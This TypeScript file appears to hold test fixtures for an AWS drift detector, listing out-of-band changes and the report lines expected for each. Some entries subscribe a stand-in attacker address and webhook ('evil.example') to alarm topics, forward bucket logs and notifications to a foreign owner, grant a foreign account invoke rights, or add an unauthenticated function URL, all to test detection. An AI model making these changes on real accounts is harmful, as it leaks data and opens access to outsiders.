import {
  DeleteSubscriptionFilterCommand,
  PutSubscriptionFilterCommand,
} from "@aws-sdk/client-cloudwatch-logs";
import { CreateServiceCommand, DeleteServiceCommand } from "@aws-sdk/client-ecs";
import { PutTargetsCommand, RemoveTargetsCommand } from "@aws-sdk/client-eventbridge";
import {
  AddPermissionCommand,
  CreateAliasCommand,
  CreateFunctionUrlConfigCommand,
  DeleteAliasCommand,
  DeleteFunctionEventInvokeConfigCommand,
  DeleteFunctionUrlConfigCommand,
  PutFunctionEventInvokeConfigCommand,
  RemovePermissionCommand,
} from "@aws-sdk/client-lambda";
import {
  CreateBucketCommand,
  DeleteBucketCommand,
  DeleteBucketCorsCommand,
  DeleteBucketReplicationCommand,
  DeleteBucketWebsiteCommand,
  PutBucketCorsCommand,
  PutBucketLoggingCommand,
  PutBucketNotificationConfigurationCommand,
  PutBucketPolicyCommand,
  PutBucketReplicationCommand,
  PutBucketWebsiteCommand,
} from "@aws-sdk/client-s3";
import { CreateScheduleCommand, DeleteScheduleCommand } from "@aws-sdk/client-scheduler";
import { ListSubscriptionsByTopicCommand, SubscribeCommand, UnsubscribeCommand } from "@aws-sdk/client-sns";
import { accessAdditions } from "./accessAdditions";
import type { Addition, Places } from "./addition";
import type { Clouds } from "./clouds";
import { furtherAdditions } from "./furtherAdditions";

const subscribe = async (
  { sns }: Clouds,
  { topicArn: TopicArn }: Places,
  Protocol: string,
  { Endpoint }: { readonly Endpoint: string },
) => await sns.send(new SubscribeCommand({ TopicArn, Protocol, Endpoint }));
const unsubscribe = async ({ sns }: Clouds, { topicArn: TopicArn }: Places, endpoint: string) => {
  const { Subscriptions = [] } = await sns.send(new ListSubscriptionsByTopicCommand({ TopicArn }));
  for (const { SubscriptionArn, Endpoint } of Subscriptions) {
    if (Endpoint === endpoint) await sns.send(new UnsubscribeCommand({ SubscriptionArn }));
  }
};

const foreignBucket = "of-another-owner";

/** AwsWatch reports these, an up does not remove them, and they can be accepted by name. */
export const additions: readonly Addition[] = [
  {
    name: "another email address is subscribed to the alarms",
    by: "aws sns subscribe --protocol email",
    add: async (clouds, places) =>
      await subscribe(clouds, places, "email", { Endpoint: "somebody@evil.example" }),
    remove: async (clouds, places) => await unsubscribe(clouds, places, "somebody@evil.example"),
    reports: "opens    topic subscription email somebody@evil.example: added: of account",
  },
  {
    name: "a webhook is subscribed to the alarms",
    by: "aws sns subscribe --protocol https",
    add: async (clouds, places) =>
      await subscribe(clouds, places, "https", { Endpoint: "https://evil.example/token" }),
    remove: async (clouds, places) => await unsubscribe(clouds, places, "https://evil.example/token"),
    reports: "opens    topic subscription https https://evil.example/ ",
  },
  {
    name: "the rule for failed tasks has another target",
    by: "aws events put-targets",
    add: async ({ events }, { rule: Rule, topicArn }) =>
      await events.send(
        new PutTargetsCommand({ Rule, Targets: [{ Id: "manual", Arn: `${topicArn}-of-another-owner` }] }),
      ),
    remove: async ({ events }, { rule: Rule }) =>
      await events.send(new RemoveTargetsCommand({ Rule, Ids: ["manual"] })),
    reports: "opens    event target $rule manual: added: $topicArn-of-another-owner",
  },
  {
    name: "a schedule is added to the group",
    by: "aws scheduler create-schedule",
    add: async ({ schedules }, { scheduleGroup: GroupName, clusterArn, roleArn }) =>
      await schedules.send(
        new CreateScheduleCommand({
          GroupName,
          Name: "manual",
          ScheduleExpression: "rate(1 hour)",
          FlexibleTimeWindow: { Mode: "OFF" },
          Target: { Arn: clusterArn, RoleArn: roleArn },
        }),
      ),
    remove: async ({ schedules }, { scheduleGroup: GroupName }) =>
      await schedules.send(new DeleteScheduleCommand({ GroupName, Name: "manual" })),
    reports: "opens    schedule $scheduleGroup/manual: added: ENABLED, $clusterArn",
  },
  {
    name: "a CORS rule is added to the bucket",
    by: "aws s3api put-bucket-cors",
    add: async ({ s3 }, { bucket: Bucket }) =>
      await s3.send(
        new PutBucketCorsCommand({
          Bucket,
          CORSConfiguration: { CORSRules: [{ AllowedMethods: ["GET"], AllowedOrigins: ["*"] }] },
        }),
      ),
    remove: async ({ s3 }, { bucket: Bucket }) => await s3.send(new DeleteBucketCorsCommand({ Bucket })),
    reports: "opens    bucket CORS $bucket: added: ",
  },
  {
    name: "website hosting is enabled on the bucket",
    by: "aws s3api put-bucket-website",
    add: async ({ s3 }, { bucket: Bucket }) =>
      await s3.send(
        new PutBucketWebsiteCommand({
          Bucket,
          WebsiteConfiguration: { IndexDocument: { Suffix: "index.html" } },
        }),
      ),
    remove: async ({ s3 }, { bucket: Bucket }) => await s3.send(new DeleteBucketWebsiteCommand({ Bucket })),
    reports: 'opens    bucket website $bucket: added: {"IndexDocument":{"Suffix":"index.html"}}',
  },
  {
    name: "a notification of every new object is sent to another topic",
    by: "aws s3api put-bucket-notification-configuration",
    add: async ({ s3 }, { bucket: Bucket, topicArn }) =>
      await s3.send(
        new PutBucketNotificationConfigurationCommand({
          Bucket,
          NotificationConfiguration: {
            TopicConfigurations: [
              { Id: "manual", TopicArn: `${topicArn}-of-another-owner`, Events: ["s3:ObjectCreated:*"] },
            ],
          },
        }),
      ),
    remove: async ({ s3 }, { bucket: Bucket }) =>
      await s3.send(new PutBucketNotificationConfigurationCommand({ Bucket, NotificationConfiguration: {} })),
    reports: "opens    bucket notification $bucket: added: ",
  },
  {
    name: "every backup is replicated to another bucket",
    by: "aws s3api put-bucket-replication",
    add: async ({ s3 }, { bucket: Bucket, roleArn }) =>
      await s3.send(
        new PutBucketReplicationCommand({
          Bucket,
          ReplicationConfiguration: {
            Role: roleArn,
            Rules: [
              {
                ID: "manual",
                Priority: 1,
                Status: "Enabled",
                Filter: { Prefix: "" },
                DeleteMarkerReplication: { Status: "Disabled" },
                Destination: { Bucket: `arn:aws:s3:::${Bucket}` },
              },
            ],
          },
        }),
      ),
    remove: async ({ s3 }, { bucket: Bucket }) =>
      await s3.send(new DeleteBucketReplicationCommand({ Bucket })),
    reports: "opens    bucket replication $bucket: added: ",
  },
  {
    name: "access logs of the bucket are delivered to another bucket",
    by: "aws s3api put-bucket-logging",
    add: async ({ s3 }, { bucket }) => {
      await s3.send(new CreateBucketCommand({ Bucket: foreignBucket }));
      const Statement = {
        Effect: "Allow",
        Principal: { Service: "logging.s3.amazonaws.com" },
        Action: ["s3:PutObject"],
        Resource: `arn:aws:s3:::${foreignBucket}/*`,
      };
      const Policy = JSON.stringify({ Version: "2012-10-17", Statement: [Statement] });
      await s3.send(new PutBucketPolicyCommand({ Bucket: foreignBucket, Policy }));
      const LoggingEnabled = { TargetBucket: foreignBucket, TargetPrefix: "manual/" };
      await s3.send(new PutBucketLoggingCommand({ Bucket: bucket, BucketLoggingStatus: { LoggingEnabled } }));
    },
    remove: async ({ s3 }, { bucket }) => {
      await s3.send(new PutBucketLoggingCommand({ Bucket: bucket, BucketLoggingStatus: {} }));
      await s3.send(new DeleteBucketCommand({ Bucket: foreignBucket }));
    },
    reports: "opens    bucket logging $bucket: added: ",
  },
  {
    name: "a subscription forwards the log of the backups",
    by: "aws logs put-subscription-filter",
    add: async ({ logs }, { logGroup: logGroupName, topicArn }) =>
      await logs.send(
        new PutSubscriptionFilterCommand({
          logGroupName,
          filterName: "manual",
          filterPattern: "",
          destinationArn: `${topicArn.split(":").slice(0, 2).join(":")}:logs:${topicArn.split(":").slice(3, 5).join(":")}:log-group:${logGroupName}:*`,
        }),
      ),
    remove: async ({ logs }, { logGroup: logGroupName }) =>
      await logs.send(new DeleteSubscriptionFilterCommand({ logGroupName, filterName: "manual" })),
    reports: "opens    log subscription $logGroup manual: added: arn:aws:logs:",
  },
  ...["events.amazonaws.com", "210987654321"].map((Principal, index) => ({
    name: `${Principal} may invoke the probe, whose results describe the database`,
    by: "aws lambda add-permission",
    add: async ({ lambda }: Clouds, { functionName: FunctionName }: Places) =>
      await lambda.send(
        new AddPermissionCommand({
          ...{ FunctionName, Principal, StatementId: `manual-${index}`, Action: "lambda:InvokeFunction" },
        }),
      ),
    remove: async ({ lambda }: Clouds, { functionName: FunctionName }: Places) =>
      await lambda.send(new RemovePermissionCommand({ FunctionName, StatementId: `manual-${index}` })),
    reports: `opens    function permission $functionName manual-${index}: added: `,
  })),
  {
    name: "a URL without authentication is added to the probe",
    by: "aws lambda create-function-url-config --auth-type NONE",
    add: async ({ lambda }, { functionName: FunctionName }) =>
      await lambda.send(new CreateFunctionUrlConfigCommand({ FunctionName, AuthType: "NONE" })),
    remove: async ({ lambda }, { functionName: FunctionName }) =>
      await lambda.send(new DeleteFunctionUrlConfigCommand({ FunctionName })),
    reports: "opens    function URL $functionName: added: auth NONE",
  },
  {
    name: "the probe gets an alias, which has its own permissions and URL",
    by: "aws lambda create-alias --function-version '$LATEST'",
    add: async ({ lambda }, { functionName: FunctionName }) =>
      await lambda.send(
        new CreateAliasCommand({ FunctionName, Name: "by-hand", FunctionVersion: "$LATEST" }),
      ),
    remove: async ({ lambda }, { functionName: FunctionName }) =>
      await lambda.send(new DeleteAliasCommand({ FunctionName, Name: "by-hand" })),
    reports: "opens    function alias $functionName by-hand: added: version",
  },
  {
    name: "the probe's results are sent to another topic",
    by: "aws lambda put-function-event-invoke-config --destination-config",
    add: async ({ lambda }, { functionName: FunctionName, topicArn }) =>
      await lambda.send(
        new PutFunctionEventInvokeConfigCommand({
          FunctionName,
          DestinationConfig: { OnSuccess: { Destination: topicArn } },
        }),
      ),
    remove: async ({ lambda }, { functionName: FunctionName }) =>
      await lambda.send(new DeleteFunctionEventInvokeConfigCommand({ FunctionName })),
    reports: "opens    function destination $functionName on success: added: $topicArn",
  },
  {
    name: "a service that runs the task permanently is added",
    by: "aws ecs create-service",
    add: async ({ ecs }, { clusterArn: cluster, taskDefinitionArn: taskDefinition }) =>
      await ecs.send(
        new CreateServiceCommand({ cluster, serviceName: "manual", taskDefinition, desiredCount: 0 }),
      ),
    remove: async ({ ecs }, { clusterArn: cluster }) =>
      await ecs.send(new DeleteServiceCommand({ cluster, service: "manual", force: true })),
    reports: "opens    cluster service manual: added: arn:aws:ecs:",
  },
  ...furtherAdditions,
  ...accessAdditions,
];
